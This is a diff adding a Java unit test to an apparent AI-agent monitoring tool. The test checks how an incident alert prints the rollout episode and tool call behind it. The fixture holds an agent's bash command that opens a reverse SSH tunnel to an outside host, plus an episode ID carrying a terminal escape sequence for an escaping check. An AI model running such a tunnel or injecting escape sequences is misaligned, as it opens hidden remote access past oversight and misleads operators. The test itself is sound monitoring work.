@@ -2,8 +2,11 @@ package io.vigil.tools.demo;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.vigil.records.AgentCall;
+import io.vigil.records.AgentEpisode;
 import io.vigil.records.Alert;
 import io.vigil.records.Fixtures;
+import io.vigil.records.IncidentState;
 import io.vigil.records.Printable;
 import io.vigil.records.Reason;
 import java.util.List;
@@ -42,5 +45,42 @@ class DemoLinesTest {
         assertThat(line.codePoints().filter(c -> c != '\\').filter(Printable::escaped))
                 .as("no raw control character in " + Printable.escape(line))
                 .isEmpty();
+    }
+
+    /** Under an incident's opening: the episode and tool call behind it, escaped, on one line; nothing without one. */
+    @Test
+    void theEpisodeAndToolCallBehindAnIncidentGetALineOfTheirOwn() {
+        Alert open = Fixtures.alertBuilder()
+                .setIncidentState(IncidentState.OPEN)
+                .setAgentContext(List.of(AgentEpisode.newBuilder()
+                        .setEpisodeId("ep-1207\u001b[2J")
+                        .setRolloutWorker("rollout-3")
+                        .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22")
+                        .setCalls(List.of(AgentCall.newBuilder()
+                                .setStep(14L)
+                                .setTool("bash")
+                                .setCommand("ssh -f -N -R 2222:localhost:22 agent@203.0.113.9")
+                                .setStartTs(Fixtures.BEGINNING)
+                                .setEndTs(Fixtures.BEGINNING)
+                                .setExitCode(0)
+                                .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22;"
+                                        + " command names 203.0.113.9; command contains ssh -R")
+                                .build()))
+                        .build()))
+                .build();
+
+        assertThat(Demo.behind(open))
+                .isEqualTo("       behind it: episode ep-1207\\u001b[2J on rollout-3, step 14: bash"
+                        + " `ssh -f -N -R 2222:localhost:22 agent@203.0.113.9` (tool call started 1.8 s before the first"
+                        + " packet to 203.0.113.9:22; command names 203.0.113.9; command contains ssh -R)");
+        assertThat(Demo.behind(Fixtures.alertBuilder()
+                        .setIncidentState(IncidentState.OPEN)
+                        .build()))
+                .isNull();
+        assertThat(Demo.behind(Alert.newBuilder(open)
+                        .setIncidentState(IncidentState.CLOSE)
+                        .build()))
+                .as("a CLOSE says what it was, not again what began it")
+                .isNull();
     }
 }
